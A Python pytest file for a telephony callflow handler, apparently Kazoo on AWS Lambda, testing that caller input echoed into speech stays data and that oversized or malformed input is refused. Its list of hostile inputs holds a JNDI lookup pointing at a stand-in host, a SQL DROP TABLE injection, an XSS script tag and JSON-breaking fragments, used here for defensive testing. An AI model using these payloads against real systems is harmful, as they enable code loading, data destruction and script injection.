"""Request input spoken back in a callflow cannot change the callflow.

The probe's ``echo`` step puts the caller's name, a custom variable and the digits into a
tts text. Whatever those hold (JSON fragments that would close the string and add a
module, braces, control characters, a lone surrogate, 10 kB), the answer is either the same
tree as for benign input with the value as data, or a refusal (a non-200, so Kazoo runs
the fallback): never a changed or truncated flow.
"""

from __future__ import annotations

import json
import uuid
from collections.abc import Callable
from typing import Any

import pytest

from pivotkit.aws.lambda_entry import make_pivot_handler
from pivotkit.callflow.speech import TTS_MAX_CHARS
from pivotkit.state import InMemoryStateStore
from tests.signing import signed
from tests.unit.security.support import (
    BASE_URL,
    CUSTOMERS,
    TOKEN,
    TOKENS,
    invoke,
    kazoo_call,
)

KazooErrors = Callable[[dict[str, Any]], list[str]]
ECHO_URL = f"{BASE_URL}/pivot/probe?token={TOKEN}&step=echo&g=echo_1"

HOSTILE = [
    '","module":"hangup"',
    '"}},"children":{"_":{"module":"hangup","data":{}}},"x":{"',
    "{{ call.state }} ${jndi:ldap://evil.example/a} %s%n",
    '\\u0022 \\" backslashes \\\\',
    "line\r\nbreak\x00nul\x1b[31mred\x7f",
    "\u2028\u2029 separators, \u202e right-to-left",
    "</script><script>alert(1)</script>",
    "'; DROP TABLE calls; --",
    "x" * 300,
]


@pytest.fixture
def handler() -> Any:
    return make_pivot_handler(
        {"PIVOTKIT_TOKENS": json.dumps(TOKENS)}, customers=CUSTOMERS, state=InMemoryStateStore()
    )


def shape(tree: Any) -> Any:
    """The structure of a tree: modules, data keys and child keys, values left out."""
    return {
        "module": tree["module"],
        "data": sorted(tree.get("data", {})),
        "children": {key: shape(child) for key, child in tree.get("children", {}).items()},
    }


def echo(handler: Any, *, name: str, note: str, digits: str, method: str = "get") -> Any:
    # A call of its own each time: a second request of one call would be a replay.
    call = kazoo_call(f"echo-{uuid.uuid4()}", caller_id_name=name)
    call = call.with_vars({"note": note}).with_digits("echo_1", digits)
    body_format = "json" if method == "post" else "form"
    url = signed(ECHO_URL, call)
    return invoke(handler, call, url, method=method, body_format=body_format)


@pytest.mark.parametrize("method", ["get", "post"])
@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_input_is_data_in_the_same_tree(
    handler: Any, kazoo_errors: KazooErrors, payload: str, method: str
) -> None:
    benign = echo(handler, name="Ann", note="hello", digits="1", method=method)
    assert benign["statusCode"] == 200
    for field in ("name", "note", "digits"):
        values = {"name": "Ann", "note": "hello", "digits": "1", field: payload}
        result = echo(handler, **values, method=method)
        assert result["statusCode"] == 200, (field, result["body"])
        assert result["headers"]["Content-Type"] == "application/json"
        tree = json.loads(result["body"])
        assert shape(tree) == shape(json.loads(benign["body"]))
        assert payload in tree["data"]["text"]  # spoken as data, byte for byte
        assert kazoo_errors(tree) == []


@pytest.mark.parametrize("field", ["name", "note", "digits"])
def test_text_over_the_tts_limit_is_refused_not_truncated(handler: Any, field: str) -> None:
    values = {"name": "Ann", "note": "hello", "digits": "1", field: "y" * TTS_MAX_CHARS}
    result = echo(handler, **values)
    assert result["statusCode"] == 500
    assert json.loads(result["body"])["error"] == "invalid_callflow"


def test_ten_kilobytes_of_input_are_refused(handler: Any) -> None:
    result = echo(handler, name="z" * 10_240, note="hello", digits="1")
    assert result["statusCode"] == 500
    assert "z" * 100 not in result["body"]  # the error does not echo the input either


def test_a_lone_surrogate_is_a_bad_request(handler: Any) -> None:
    """Kazoo sends UTF-8; an unpaired surrogate (here as a JSON escape) is not text."""
    body = json.dumps(
        {
            "Account-ID": kazoo_call().account_id,
            "Call-ID": "surrogate@10.0.0.5",
            "Caller-ID-Name": "\ud800",
            "Digits": {"echo_1": "1"},
        }
    )
    assert "\\ud800" in body
    event = {
        "version": "2.0",
        "rawPath": "/pivot/probe",
        "rawQueryString": f"token={TOKEN}&step=echo&g=echo_1",
        "headers": {"content-type": "application/json"},
        "requestContext": {"http": {"method": "POST"}, "domainName": "pivot.example.com"},
        "body": body,
    }
    result = handler(event, None)
    assert result["statusCode"] == 400
    assert json.loads(result["body"])["error"] == "bad_request"
